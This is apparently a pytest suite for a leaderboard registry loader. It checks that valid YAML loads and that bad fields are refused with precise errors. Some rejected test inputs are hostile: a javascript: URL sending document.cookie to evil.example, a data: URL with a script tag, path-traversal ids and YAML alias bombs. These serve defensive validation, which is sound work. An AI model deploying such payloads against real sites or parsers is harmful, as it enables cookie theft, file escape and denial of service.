"""Registry loading: valid files load into frozen dataclasses; bad ones get one precise error."""

import dataclasses
import posixpath
import textwrap
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from arena_core.registry import Registry, RegistryError, load_registry
from arena_core.registry.fields import ID_PATTERN, Ctx, check_free_form, valid_id

VALID = """
arenas:
  - id: tts-en
    title: English TTS
    modality: audio
    prior_mapping: {benchmark: TTS quality index, center: 82, points_per_unit: 8, source: https://example.org/method}
    prompts:
      - {id: p1, text: "Hello there.", category: en}
      - {id: p2, text: "Good night.", category: en}
    models:
      - id: espeak-ng/en-us
        name: eSpeak NG (en-us)
        params: "n/a"
        backend: {type: espeak, voice: en-us}
      - id: piper/joe
        name: Piper Joe
        params: 63M
        params_m: 63
        prior: {value: 86.5, source: https://example.org/table, accessed: 2026-03-01}
        license: CC0-1.0
        backend: {type: piper, voice: en_US-joe-medium}
  - id: chat
    title: Chat
    modality: text
    prompts: prompts.yaml
    models:
      - {id: m1, name: M1, backend: {type: openai, base_url: "http://127.0.0.1:1"}}
"""


def write(tmp_path, text, prompts="- {id: c1, text: Hi}\n"):
    (tmp_path / "prompts.yaml").write_text(prompts)
    path = tmp_path / "registry.yaml"
    path.write_text(textwrap.dedent(text))
    return path


def test_valid_registry_loads(tmp_path):
    reg = load_registry(
        write(
            tmp_path,
            VALID.replace(
                "license: CC0-1.0", "url: HTTPS://x.org/j?a=1&b=2\n        license: CC0-1.0"
            ),
        )
    )
    assert reg.arena("tts-en").model("piper/joe").url == "HTTPS://x.org/j?a=1&b=2"
    tts = reg.arena("tts-en")
    assert tts.modality == "audio" and tts.categories == ("en",)
    piper = tts.model("piper/joe")
    assert piper.params_m == 63.0
    assert piper.prior.rating == pytest.approx(1000 + 8 * (86.5 - 82))  # the rule
    assert tts.model("espeak-ng/en-us").prior_rating == 1000.0
    assert piper.backend.type == "piper" and piper.backend.options["voice"] == "en_US-joe-medium"
    assert reg.arena("chat").prompts[0].text == "Hi"


def test_loaded_registry_is_frozen(tmp_path):
    reg = load_registry(write(tmp_path, VALID))
    with pytest.raises(dataclasses.FrozenInstanceError):
        reg.arenas[0].title = "x"
    with pytest.raises(TypeError):
        reg.arenas[0].models[0].backend.options["voice"] = "x"


BROKEN = [
    # (edit to VALID, arena, model, field, words in the message)
    (("params_m: 63", "params_m: sixty"), "tts-en", "piper/joe", "params_m", "must be a number"),
    (("modality: audio", "modality: smell"), "tts-en", None, "modality", "unknown modality"),
    (("{type: piper, voice: en_US-joe-medium}", "{voice: x}"), "tts-en", "piper/joe", "backend.type", "missing"),
    (("id: piper/joe", "id: espeak-ng/en-us"), "tts-en", None, None, "duplicate model id"),
    (("id: p2", "id: p1"), "tts-en", None, None, "duplicate prompt id"),
    (("id: chat", "id: tts-en"), None, None, None, "duplicate arena id"),
    (("params: 63M", "param_m: 63M"), "tts-en", "piper/joe", "param_m", "unknown key"),
    (("source: https://example.org/table", "note: x"), "tts-en", "piper/joe", "prior.note", "unknown key"),
    (("prior: {value: 86.5, source: https://example.org/table, accessed: 2026-03-01}", "prior: {value: 86.5, accessed: 2026-03-01}"),
     "tts-en", "piper/joe", "prior.source", "the URL or citation"),
    (("name: Piper Joe", "name: ''"), "tts-en", "piper/joe", "name", "non-empty string"),
    (("params_m: 63", "params_m: -1"), "tts-en", "piper/joe", "params_m", "positive"),
    (("params_m: 63", "params_m: true"), "tts-en", "piper/joe", "params_m", "must be a number"),
    # YAML reads integers of any size (float() of this one once raised OverflowError) and .inf.
    (("params_m: 63", "params_m: 1" + "0" * 400), "tts-en", "piper/joe", "params_m", "finite"),
    (("params_m: 63", "params_m: .inf"), "tts-en", "piper/joe", "params_m", "finite"),
    (("value: 86.5", "value: -.inf"), "tts-en", "piper/joe", "prior.value", "finite"),
    (("id: m1", "id: 'has space'"), "chat", "has space", "id", "not a valid id"),
    # An id is a path inside the data folder and the dataset repo (leaderboards/<arena>/):
    # a '..' part wrote a snapshot outside it, an empty or '.' part names another id's place.
    (("id: chat", "id: x/../../../escaped"), "x/../../../escaped", None, "id", "not a valid id"),
    (("id: m1", "id: a//b"), "chat", "a//b", "id", "not a valid id"),
    (("id: m1", "id: a/./b"), "chat", "a/./b", "id", "not a valid id"),
    (("id: m1", "id: a/"), "chat", "a/", "id", "not a valid id"),
    (("id: m1", "id: a/.."), "chat", "a/..", "id", "not a valid id"),
    (("id: p1", "id: p/../q"), "tts-en", None, "prompts.id", "not a valid id"),
    # A model's url is linked in raw HTML on the board and the reveal: http(s) only.
    (("license: CC0-1.0", "url: \"javascript:fetch('//evil.example/'+document.cookie)\""),
     "tts-en", "piper/joe", "url", "not an http(s) URL"),
    (("license: CC0-1.0", "url: 'data:text/html,<script>x</script>'"), "tts-en", "piper/joe", "url", "not an http(s) URL"),
    (("license: CC0-1.0", "url: huggingface.co/x"), "tts-en", "piper/joe", "url", "not an http(s) URL"),
    (("license: CC0-1.0", "url: 'https://'"), "tts-en", "piper/joe", "url", "not an http(s) URL"),
    (("license: CC0-1.0", "url: 'https://x.org/a b'"), "tts-en", "piper/joe", "url", "not an http(s) URL"),
    (("prompts: prompts.yaml", "prompts: missing.yaml"), "chat", None, "prompts", "does not exist"),
]  # fmt: skip


@pytest.mark.parametrize(("edit", "arena", "model", "field", "words"), BROKEN)
def test_bad_registry_names_file_arena_model_and_field(tmp_path, edit, arena, model, field, words):
    old, new = edit
    assert old in VALID
    path = write(tmp_path, VALID.replace(old, new, 1))
    with pytest.raises(RegistryError) as err:
        load_registry(path)
    e = err.value
    assert (e.arena, e.model, e.field) == (arena, model, field)
    assert str(path) in str(e) and words in str(e)


def test_prior_needs_a_mapping(tmp_path):
    mapping_line = next(line for line in VALID.splitlines() if "prior_mapping" in line)
    path = write(tmp_path, VALID.replace(mapping_line + "\n", ""))
    with pytest.raises(RegistryError, match="prior_mapping"):
        load_registry(path)


def test_duplicate_yaml_keys_are_refused(tmp_path):
    path = write(tmp_path, VALID.replace("params_m: 63", "params_m: 63\n        params_m: 64"))
    with pytest.raises(RegistryError, match="duplicate key 'params_m'"):
        load_registry(path)


def test_bad_prompt_file_names_that_file(tmp_path):
    path = write(tmp_path, VALID, prompts="- {id: c1}\n")
    with pytest.raises(RegistryError) as err:
        load_registry(path)
    assert "prompts.yaml" in str(err.value) and err.value.field == "prompts[c1].text"


def test_jsonl_prompt_files_are_read(tmp_path):
    (tmp_path / "p.jsonl").write_text(
        '{"id": "j1", "text": "One."}\n\n{"id": "j2", "text": "Two."}\n'
    )
    path = write(tmp_path, VALID.replace("prompts: prompts.yaml", "prompts: p.jsonl"))
    assert [p.id for p in load_registry(path).arena("chat").prompts] == ["j1", "j2"]


def test_not_yaml_and_unreadable_files(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("arenas: [\n")
    with pytest.raises(RegistryError, match="not valid YAML"):
        load_registry(bad)
    with pytest.raises(RegistryError, match="cannot read"):
        load_registry(tmp_path / "absent.yaml")
    empty = tmp_path / "empty.yaml"
    empty.write_text("arenas: []\n")
    with pytest.raises(RegistryError, match="non-empty list"):
        load_registry(empty)


#: Files PyYAML lets escape as other exceptions than a YAML error (a traceback out of the
#: loader and ``registry --check``), each now one RegistryError naming the file.
ESCAPES = {
    "latin-1 text": "title: Caf\xe9".encode("latin-1"),
    "a complex key": b"? [1]\n: 2\n",
    "a complex key in a model": b"arenas: [{models: [{id: a, ? [1] : 2}]}]\n",
    "a bracket 5,000 deep": b"arenas: " + b"[" * 5000 + b"]" * 5000 + b"\n",
    "an int that is not one": b"arenas: !!int abc\n",
    "a bool that is not one": b"arenas: !!bool maybe\n",
}


@pytest.mark.parametrize("content", ESCAPES.values(), ids=ESCAPES.keys())
def test_a_file_yaml_cannot_read_is_one_registry_error_naming_it(tmp_path, content):
    path = tmp_path / "registry.yaml"
    path.write_bytes(content)
    with pytest.raises(RegistryError, match="not valid YAML") as err:
        load_registry(path)
    assert err.value.file == path


@pytest.mark.parametrize("name", ["prompts.yaml", "prompts.jsonl"])
def test_a_prompt_file_not_in_utf8_is_one_registry_error_naming_it(tmp_path, name):
    path = write(tmp_path, VALID.replace("prompts: prompts.yaml", f"prompts: {name}"))
    line = (
        '{"id": "c1", "text": "Caf\xe9"}\n'
        if name.endswith("jsonl")
        else "- {id: c1, text: Caf\xe9}\n"
    )
    (tmp_path / name).write_bytes(line.encode("latin-1"))
    with pytest.raises(RegistryError) as err:
        load_registry(path)
    assert err.value.file == tmp_path / name


def test_nesting_as_deep_as_a_registry_needs_is_read(tmp_path):
    nested = "[" * 30 + "]" * 30
    path = write(tmp_path, VALID.replace("voice: en-us}", f"voice: en-us, deep: {nested}}}"))
    options = load_registry(path).arena("tts-en").model("espeak-ng/en-us").backend.options
    expected = []
    for _ in range(29):
        expected = [expected]
    assert options["deep"] == expected


#: Pieces of YAML syntax, tags and aliases included, that a fuzzed file is built from.
_YAML_BITS = ["arenas:", " [", "]", "{", "}", ": ", "- ", "? ", "\n", "  ", "&a ", "*a", ",",
              "!!int ", "!!bool ", "!!float ", "!!timestamp ", "!!binary ", "!!set ", "!!omap ",
              "id", "abc", "1", "2026-02-30", "'", '"', "#", "|", ">", "\t", "%YAML 1.1\n"]  # fmt: skip


@given(st.lists(st.sampled_from(_YAML_BITS), max_size=40).map(lambda bits: "".join(bits).encode())
       | st.binary(max_size=200))  # fmt: skip
def test_any_file_loads_or_is_one_registry_error(tmp_path_factory, content):
    path = tmp_path_factory.mktemp("fuzz") / "registry.yaml"
    path.write_bytes(content)
    try:
        loaded = load_registry(path)
    except RegistryError as err:
        loaded = err.file
    assert isinstance(loaded, Registry) or loaded == path


@given(st.text(alphabet="a./:-", min_size=1, max_size=12))
def test_a_valid_id_is_a_path_that_stays_where_it_is_put(value):
    """posixpath.normpath, not the id check, says whether a path climbs or collapses."""
    path = f"leaderboards/{value}/2026-01-01.json"
    stays = posixpath.normpath(path) == path
    assert valid_id(value) == (stays and ID_PATTERN.fullmatch(value) is not None)


def alias_bomb(levels: int, indent: str) -> str:
    """A "billion laughs": each level a list of nine aliases of the one before."""
    lines = [f'{indent}l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [
        f"{indent}l{n}: &l{n} [" + ",".join([f"*l{n - 1}"] * 9) + "]" for n in range(1, levels)
    ]
    return "\n".join(lines)


def test_an_alias_bomb_in_a_models_options_is_refused_at_load(tmp_path):
    """856 bytes that expanded to ~3 GB of keyword arguments when the model was called."""
    hosted = ("{type: gradio-space, space: 'http://127.0.0.1:9/', api_name: /predict}",
              "\n          type: gradio-space\n          space: 'http://127.0.0.1:9/'\n"
              "          args:\n            text: '{text}'\n            pad:\n"
              + alias_bomb(9, "              "))  # fmt: skip
    path = write(tmp_path, VALID.replace("{type: piper, voice: en_US-joe-medium}", hosted[1]))
    assert len(path.read_bytes()) < 2000
    with pytest.raises(RegistryError, match="expands to more than") as err:
        load_registry(path)
    assert (err.value.file, err.value.arena, err.value.model) == (path, "tts-en", "piper/joe")
    assert err.value.field == "backend"


def test_an_alias_bomb_in_a_judges_options_is_refused_at_load(tmp_path):
    judge = ("judges:\n  - id: j\n    name: J\n    kind: intelligibility\n    arenas: [tts-en]\n"
             "    options:\n      pad:\n" + alias_bomb(9, "        ") + "\n")  # fmt: skip
    with pytest.raises(RegistryError, match="expands to more than") as err:
        load_registry(write(tmp_path, VALID + judge))
    assert err.value.field == "judges[j].options"


def test_an_error_quoting_an_alias_bomb_is_cut_short(tmp_path):
    """A field's error quotes the value it refuses; the full repr of 9**7 strings took
    seconds and tens of megabytes (9**9: gigabytes)."""
    levels = ", ".join(["&l0 [a, a, a, a, a, a, a, a, a]"] + [
        f"&l{n} [" + ", ".join([f"*l{n - 1}"] * 9) + "]" for n in range(1, 7)])  # fmt: skip
    path = write(tmp_path, VALID.replace("params_m: 63", f"params_m: [{levels}]"))
    with pytest.raises(RegistryError, match="must be a number") as err:
        load_registry(path)
    assert len(str(err.value)) < 1000


@given(st.recursive(st.text(max_size=3) | st.integers(), lambda kids: st.lists(kids, max_size=4)
                    | st.dictionaries(st.text(max_size=3), kids, max_size=4), max_leaves=40))  # fmt: skip
def test_options_within_the_bounds_are_kept_as_written(options):
    """Anything small passes unchanged; the bound is on size, never on shape."""
    assert check_free_form(Ctx(file=None, base_dir=Path(".")), {"args": options}, "backend") is None


def test_unknown_arena_lookup_lists_known_ones(tmp_path):
    reg = load_registry(write(tmp_path, VALID))
    with pytest.raises(KeyError, match="tts-en, chat"):
        reg.arena("nope")
